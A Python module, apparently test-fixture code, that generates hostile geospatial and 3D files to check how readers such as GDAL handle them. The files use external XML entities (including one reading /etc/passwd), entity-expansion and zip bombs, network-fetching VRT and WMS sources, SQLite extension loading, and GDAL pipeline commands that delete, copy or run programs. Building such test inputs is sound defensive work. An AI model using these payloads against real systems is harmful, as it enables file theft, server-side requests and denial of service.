"""Files of strangers that would lead a reader to other files, into the net, or to no end."""

from __future__ import annotations

import json
import sqlite3
import zipfile
from html import escape
from pathlib import Path

KINDS = ("gpkg", "shp", "fgb", "dxf", "kml", "kmz")
SPATIAL = """
CREATE TABLE gpkg_spatial_ref_sys(srs_name TEXT,srs_id INTEGER PRIMARY KEY,organization TEXT,
 organization_coordsys_id INTEGER,definition TEXT,description TEXT);
INSERT INTO gpkg_spatial_ref_sys VALUES('u',-1,'NONE',-1,'undefined','');
CREATE TABLE gpkg_contents(table_name TEXT PRIMARY KEY,data_type TEXT,identifier TEXT,
 description TEXT,last_change TEXT,min_x REAL,min_y REAL,max_x REAL,max_y REAL,srs_id INTEGER);
CREATE TABLE gpkg_geometry_columns(table_name TEXT,column_name TEXT,geometry_type_name TEXT,
 srs_id INTEGER,z TINYINT,m TINYINT);
INSERT INTO gpkg_contents VALUES('t','features','t','','2020-01-01T00:00:00Z',0,0,1,1,-1);
INSERT INTO gpkg_geometry_columns VALUES('t','geom','POLYGON',-1,0,0);
PRAGMA application_id=1196444487; PRAGMA user_version=10300;
"""
KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'
PLACE = "<Placemark><Point><coordinates>0,0,1</coordinates></Point></Placemark>"


def vrt(source: str, *, relative: int = 0, band: str = "", more: str = "") -> str:
    """A VRT of 4 by 4 cells with one source."""
    return (
        '<VRTDataset rasterXSize="4" rasterYSize="4"><GeoTransform>0,1,0,4,0,-1</GeoTransform>'
        f'{more}<VRTRasterBand dataType="Float32" band="1"{band}><SimpleSource>'
        f'<SourceFilename relativeToVRT="{relative}">{source}</SourceFilename>'
        '<SourceBand>1</SourceBand><SrcRect xOff="0" yOff="0" xSize="4" ySize="4"/>'
        '<DstRect xOff="0" yOff="0" xSize="4" ySize="4"/></SimpleSource></VRTRasterBand></VRTDataset>'
    )


def descriptions(url: str, secret: Path) -> dict[str, str]:
    """What drivers of GDAL take for a link to elsewhere, whatever the name of the file."""
    stream = "gdal vector pipeline ! read {} ! write --of=stream streamed"
    layer = f'<OGRVRTLayer name="secret"><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer>'
    ring = {"rel": "items", "href": f"{url}/items"}
    texts = {
        "gdalg": {"type": "gdal_streamed_alg", "command_line": stream.format(secret)},
        "gdalgnet": {
            "type": "gdal_streamed_alg",
            "command_line": stream.format(f"/vsicurl/{url}/x.geojson"),
        },
        "oapif": {
            "links": [{"rel": "data", "href": f"{url}/c"}],
            "collections": [{"links": [ring]}],
        },
        "next": {
            "type": "FeatureCollection",
            "features": [],
            "links": [{"rel": "next", "href": url}],
        },
    }
    return {name: json.dumps(text) for name, text in texts.items()} | {
        "wfs": f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
        "csw": f"<OGRCSWDataSource><URL>{url}/csw</URL></OGRCSWDataSource>",
        "ogrvrt": f"<!-- {'x' * 5000} --><OGRVRTDataSource>{layer}</OGRVRTDataSource>",
    }


def write_vectors(folder: Path, url: str, secret: Path) -> list[Path]:
    """Lines and polygons that lead elsewhere."""
    paths = []
    for name, text in descriptions(url, secret).items():
        for kind in KINDS:
            paths.append(folder / f"{name}.{kind}")
            if kind == "kmz":
                with zipfile.ZipFile(paths[-1], "w") as packed:
                    packed.writestr("doc.kml", text)
            else:
                paths[-1].write_text(text)
    network = f"<NetworkLink><Link><href>{url}/n.kml</href></Link></NetworkLink>{PLACE}"
    entity = f'<!DOCTYPE k [<!ENTITY x SYSTEM "{url}/dtd">]>'
    growing = "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    for name, text in {
        "network.kml": KML.format(network),
        "entity.kml": entity + KML.format(f"<name>&x;</name>{PLACE}"),
        "growing.kml": f'<!DOCTYPE k [<!ENTITY a "a">{growing}]>' + KML.format("<name>&i;</name>"),
    }.items():
        paths.append(folder / name)
        paths[-1].write_text(text)
    return paths + _write_packed(folder, network) + _write_databases(folder, url, secret)


def write_more_vectors(folder: Path, url: str, secret: Path) -> list[Path]:
    """Descriptions of services, of layers in other files, and of commands that write."""
    get = (
        f"<Operation name='GetFeature'><DCP><HTTP><Get href='{url}/wfs'/></HTTP></DCP></Operation>"
    )
    kind = "<FeatureTypeList><FeatureType><Name>a</Name></FeatureType></FeatureTypeList>"
    layer = f"<OGRVRTLayer name='inner'><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer>"
    point = {"attributes": {"a": 1}, "geometry": {"x": 1, "y": 2}}
    field = {"name": "a", "type": "esriFieldTypeString"}
    gml = (
        '<?xml version="1.0"?><!DOCTYPE k [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<ogr:FeatureCollection xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://ogr.maptools.org/ {url}/x.xsd" '
        'xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><gml:featureMember><ogr:a fid="1">'
        f'<ogr:n>&x;</ogr:n><ogr:geometryProperty xlink:href="{url}/g"><gml:Point>'
        "<gml:coordinates>1,2</gml:coordinates></gml:Point></ogr:geometryProperty></ogr:a>"
        "</gml:featureMember></ogr:FeatureCollection>"
    )
    texts = {
        "wfscap": f"<WFS_Capabilities version='1.1.0'><OperationsMetadata>{get}</OperationsMetadata>"
        f"{kind}</WFS_Capabilities>",
        "oapif2": "<OGROAPIFDataSource/>",
        "vrtbom": f"\ufeff<OGRVRTDataSource>{layer}</OGRVRTDataSource>",
        "esri": json.dumps({"geometryType": "esriGeometryPoint", "fields": [field],
                            "features": [point], "exceededTransferLimit": True}),
        "gmlx": gml,
    }  # fmt: skip
    files = {f"{name}.{kind}": text for name, text in texts.items() for kind in KINDS[:-1]}
    polygon = {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 0]]]}
    files["gj.dxf"] = json.dumps(polygon)
    commands = {
        f"{name}.{kind}": json.dumps({"type": "gdal_streamed_alg", "command_line": command})
        for name, command in _commands(folder, secret).items()
        for kind in ("shp", "dxf")
    }
    for name, text in (files | commands).items():
        (folder / name).write_text(text)
    (folder / "vrt16.kml").write_text("\ufeff<OGRVRTDataSource></OGRVRTDataSource>", "utf-16")
    return [folder / name for name in (*files, *commands, "vrt16.kml")] + _write_computing(folder)


def _commands(folder: Path, secret: Path) -> dict[str, str]:
    """What GDAL would do in place of reading: write, copy, remove, and run a program."""
    stream = "write --of=stream streamed"
    read = f"gdal vector pipeline ! read {secret}"
    return {
        "tee": f"{read} ! tee [ write {folder}/tee.geojson ] ! {stream}",
        "write": f"{read} ! write {folder}/w.geojson",
        "convert": f"gdal vector convert {secret} {folder}/c.geojson",
        "external": f"{read} ! external --command 'touch {folder}/ext' ! {stream}",
        "sql": f"gdal vector sql {secret} --of=stream streamed --dialect SQLITE "
        "--sql \"select load_extension('x.so')\"",
        "delete": f"gdal vsi delete {secret}",
        "copy": f"gdal vsi copy {secret} {folder}/copy",
        "drop": f"gdal dataset delete {secret}",
        "edit": f"{read} --update ! {stream}",
    }


def _write_packed(folder: Path, network: str) -> list[Path]:
    contents = {"network.kmz": KML.format(network), "bomb.kmz": KML.format("A" * 200_000_000)}
    for name, text in contents.items():
        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as packed:
            packed.writestr("doc.kml", text)
    return [folder / name for name in contents]


def _write_databases(folder: Path, url: str, secret: Path) -> list[Path]:
    """GeoPackages that compute when they are read."""
    view = "CREATE VIEW t AS SELECT 1 AS OGC_FID, {} AS n, NULL AS geom;"
    virtual = (
        "PRAGMA writable_schema=1; INSERT INTO sqlite_master(type,name,tbl_name,rootpage,sql) "
        "VALUES('table','t','t',0,'CREATE VIRTUAL TABLE t USING VirtualOGR(''{}'')');"
    )
    texts = {
        "endless": "CREATE VIEW t AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) "
        "SELECT x AS OGC_FID, NULL AS geom FROM c;",
        "large": view.format("zeroblob(900000000)"),
        "geocode": view.format(f"ogr_geocode('a','geometry','{url}/q')"),
        "layer": view.format(f"ogr_layer_FeatureCount('{secret}','secret')"),
        "pixel": view.format(f"gdal_get_pixel_value('/vsicurl/{url}/x.tif',1,'georef',0,0)"),
        "virtual": virtual.format(secret),
        "computed": "CREATE TABLE t(fid INTEGER PRIMARY KEY, geom BLOB, n TEXT GENERATED ALWAYS AS "
        "(zeroblob(900000000)) VIRTUAL); INSERT INTO t(fid) VALUES(1);",
    }
    return _databases(folder, texts)


def _databases(folder: Path, texts: dict[str, str]) -> list[Path]:
    for name, text in texts.items():
        base = sqlite3.connect(folder / f"{name}.gpkg")
        base.executescript(SPATIAL + text)
        base.close()
    return [folder / f"{name}.gpkg" for name in texts]


def _write_computing(folder: Path) -> list[Path]:
    """GeoPackages that call a function or a module."""
    (folder / "inner.csv").write_text("x,y,secret\n1,2,TOPSECRET\n")
    view = "CREATE VIEW t AS SELECT 1 AS OGC_FID, {} AS n, NULL AS geom;"
    table = (
        "PRAGMA writable_schema=1; INSERT INTO sqlite_master(type,name,tbl_name,rootpage,sql) VALUES("
        f"'table','t','t',0,'CREATE VIRTUAL TABLE t USING VirtualText(''{folder}/inner.csv'',UTF8)');"
    )
    texts = {
        "version": view.format("ogr_version()"),
        "extension": view.format("load_extension('x.so')"),
        "virtualtext": table,
    }
    return _databases(folder, texts)


def write_rasters(folder: Path, url: str, secret: Path) -> list[Path]:
    """Grids that lead elsewhere."""
    wms = escape(f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>")
    sources = {
        "curl": f"/vsicurl/{url}/a.tif", "none": f"/vsicurl/{url}/a.none",
        "ending": f"/vsicurl/{url}/a.tif?x=.none", "stream": f"/vsicurl_streaming/{url}/a.tif",
        "streamnone": f"/vsicurl_streaming/{url}/a.none", "query": f"/vsicurl?url={url}/a.none",
        "http": f"{url}/a.tif", "httpnone": f"{url}/a.none", "inline": wms, "wms": f"WMS:{url}/wms", "wcs": f"WCS:{url}/wcs",
        "wmts": f"WMTS:{url}/wmts", "zip": f"/vsizip//vsicurl/{url}/a.zip/x.tif",
        "zipnone": f"/vsizip/vsicurl/{url}/a.none/x.tif", "gzip": f"/vsigzip//vsicurl/{url}/a.none",
        "plmosaic": "PLMosaic:", "eedai": "EEDAI:x",
        "s3": "/vsis3/bucket/key", "stacta": f"STACTA:{url}/x.json", "absolute": str(secret),
    }  # fmt: skip
    (folder / "inner.tif").write_text(vrt(f"/vsicurl/{url}/b.tif"))
    (folder / "link.tif").symlink_to(secret)
    texts = {f"{name}.vrt": vrt(source) for name, source in sources.items()} | {
        "relative.vrt": vrt(f"/vsicurl/{url}/a.tif", relative=1),
        "up.vrt": vrt(f"../{secret.name}", relative=1),
        "symlink.vrt": vrt("link.tif", relative=1),
        "nested.vrt": vrt("inner.tif", relative=1),
        "itself.vrt": vrt("itself.vrt", relative=1),
        "raw.vrt": vrt(str(secret), band=' subClass="VRTRawRasterBand"'),
        "code.vrt": vrt("a.tif", relative=1, band=' subClass="VRTDerivedRasterBand"'),
        "warped.vrt": vrt("a.tif", relative=1, more=f"<GDALWarpOptions>{url}</GDALWarpOptions>"),
        "entity.vrt": f'<!DOCTYPE k [<!ENTITY x SYSTEM "{url}/dtd">]>' + vrt("&x;", relative=1),
        "y.tif": vrt(f"/vsicurl/{url}/a.tif"),
        "wms.tif": f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>",
        "wms.grd": f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>",
        "wms.asc": f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>",
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
    return [folder / name for name in texts]


def write_clouds(folder: Path, url: str, secret: Path) -> list[Path]:
    """Clouds that name textures, projections and files elsewhere."""
    import laspy

    vertices = (
        "element vertex 1\nproperty float x\nproperty float y\nproperty float z\nend_header\n"
    )
    texts = {
        "texture.ply": f"ply\nformat ascii 1.0\ncomment TextureFile {secret}\n{vertices}0 0 0\n",
        "net.ply": f"ply\nformat ascii 1.0\nobj_info {url}/a.png\n{vertices}0 0 0\n",
        "net.xyz": f"{url}/a.xyz\n{secret}\n",
        "named.csv": f"x,y,z\n{secret},{url}/a,1\n",
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
    system = f"{url}/system.prj"
    wkt = f'BOUNDCRS["a",NADGRIDS["{url}/grid.gsb"]] {secret}'
    for name, words in (("net.las", system), ("grid.las", wkt)):
        header = laspy.LasHeader(point_format=6, version="1.4")
        header.vlrs.append(laspy.VLR("LASF_Projection", 2112, "", words.encode() + b"\0"))
        laspy.LasData(header).write(folder / name)
    return [folder / name for name in (*texts, "net.las", "grid.las")]


def write_meshes(folder: Path, url: str, secret: Path) -> list[Path]:
    """Meshes that name other files."""
    grid = (
        '<Xdmf Version="3.0"><Domain><Grid><Geometry GeometryType="XYZ"><DataItem DataType="Float" '
        f'Dimensions="4 3" Format="HDF">{secret}:/points</DataItem></Geometry></Grid></Domain></Xdmf>'
    )
    entity = f'<?xml version="1.0"?><!DOCTYPE k [<!ENTITY x SYSTEM "{url}/dtd">]>'
    texts = {
        "other.xdmf": grid,
        "net.xdmf": grid.replace(str(secret), f"{url}/a.h5"),
        "include.inp": f"*INCLUDE, INPUT={secret}\n",
        "entity.vtu": entity + "<VTKFile>&x;</VTKFile>",
        "entity.xml": entity + "<dolfin>&x;</dolfin>",
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
    return [folder / name for name in texts]


def write_facets(folder: Path, url: str, secret: Path) -> list[Path]:
    """Surfaces of triangles that name other files, and have no triangle themselves."""
    reference = f"0\nSECTION\n2\nBLOCKS\n0\nBLOCK\n8\n0\n70\n4\n1\n{secret}\n0\nENDBLK\n0\nENDSEC\n"
    insert = "0\nSECTION\n2\nENTITIES\n0\nINSERT\n2\nX\n0\nIMAGE\n1\n%s\n0\nENDSEC\n0\nEOF\n"
    texts = {
        "materials.obj": f"mtllib {secret}\nmtllib {url}/a.mtl\nv 0 0 0\n",
        "call.obj": f"call {secret}\ncsh cat {secret}\nv 0 0 0\n",
        "texture.ply": f"ply\nformat ascii 1.0\ncomment TextureFile {secret}\nelement vertex 0\n"
        "property float x\nproperty float y\nproperty float z\nend_header\n",
        "xref.dxf": reference + insert % secret,
        "net.dxf": insert % f"{url}/a.png",
        "script.ts": f"GOCAD TSurf 1\nHEADER {{\nname:a\n*script:{secret}\n}}\nFILE {url}/a\nEND\n",
        "voxet.ts": f"GOCAD Voxet 1\nPROP_FILE 1 {secret}\nEND\n",
        "huge.stl": "solid a\n" + "facet normal 0 0 1\n" * 100,
        "count.ply": "ply\nformat binary_little_endian 1.0\nelement vertex 2000000000\n"
        "property double x\nproperty double y\nproperty double z\nend_header\n",
        "mesh.dxf": "0\nSECTION\n2\nENTITIES\n0\nPOLYLINE\n70\n16\n71\n2000000\n72\n2000000\n"
        "0\nSEQEND\n0\nENDSEC\n0\nEOF\n",
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
    return [folder / name for name in texts]
